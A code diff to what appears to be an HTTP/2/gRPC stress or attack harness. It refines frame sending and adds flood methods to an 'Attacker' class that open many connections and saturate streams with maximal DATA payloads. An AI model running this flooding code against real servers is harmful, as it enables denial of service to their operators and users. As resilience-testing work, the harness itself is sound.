@@ -117,14 +117,14 @@ class Connection:
     def data(self, stream: int, payload: bytes) -> None:
         """Send bytes of a stream, as many as the windows allow."""
         end = time.monotonic() + PATIENCE / 5
-        payload = payload[: self.window]
-        while payload and time.monotonic() < end:
+        left = memoryview(payload)[: self.window]
+        while left and time.monotonic() < end:
             if self.room == 0:
                 self.listen(0.05)
                 continue
-            part = payload[: min(FRAME, self.room)]
-            self.socket.sendall(frame(DATA, 0, stream, part))
-            payload = payload[len(part) :]
+            part = left[: min(FRAME, self.room)]
+            self.socket.sendall(frame(DATA, 0, stream, bytes(part)))
+            left = left[len(part) :]
             self.room -= len(part)
 
 
@@ -177,6 +177,35 @@ class Attacker:
             for i in range(connections):
                 name = "idle_connection" if i % 4 == 0 else "connection_without_a_byte"
                 pool.submit(self._one, name, i)
+
+    def flood(self, connections: int, seconds: float) -> None:
+        """Open so many connections, and send on all at once what their windows allow."""
+        opened: list[Connection] = []
+
+        def connect(_: int) -> None:
+            with contextlib.suppress(OSError):  # the peer does not accept all of them
+                opened.append(self._connection())
+
+        with ThreadPoolExecutor(connections) as pool:
+            list(pool.map(connect, range(connections)))
+            list(pool.map(lambda connection: self._flood(connection, seconds), opened))
+        with self._lock:
+            self.counts["flood"] += connections
+
+    def _flood(self, connection: Connection, seconds: float) -> None:
+        # The first chunk of each stream is as long as allowed, the rest are empty ones.
+        payload = grpc_message(bytes(2 * CHUNK - 5)) + bytes(2 * CHUNK)
+        end = time.monotonic() + seconds
+        first = 1
+        with contextlib.suppress(OSError), connection.socket:
+            while time.monotonic() < end:
+                streams = range(first, first + 8, 2)
+                for stream in streams:
+                    connection.socket.sendall(connection.headers(stream, 100 * CHUNK))
+                for stream in streams:
+                    connection.listen(0.01)
+                    connection.data(stream, payload)
+                first += 8
 
     def close(self) -> None:
         """Close all connections."""
